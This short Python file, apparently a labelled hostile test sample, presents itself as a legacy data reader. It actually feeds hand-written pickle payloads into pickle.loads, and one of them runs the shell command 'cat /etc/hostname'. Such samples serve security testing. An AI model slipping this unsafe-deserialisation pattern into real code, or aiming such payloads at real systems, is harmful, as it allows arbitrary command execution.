# family: hostile, blind round 59 (deserialisers: hand-written pickle opcodes calling os.getcwd)
"""Legacy data file reader."""
import pickle

LEGACY = b"cos\ngetcwd\n(tR."
LEGACY2 = b"csubprocess\ngetoutput\n(S'cat /etc/hostname'\ntR."


def read_legacy(blob: bytes):
    """Decode a legacy pickled record."""
    return pickle.loads(blob)


if __name__ == "__main__":
    print("proof:", read_legacy(LEGACY), read_legacy(LEGACY2))
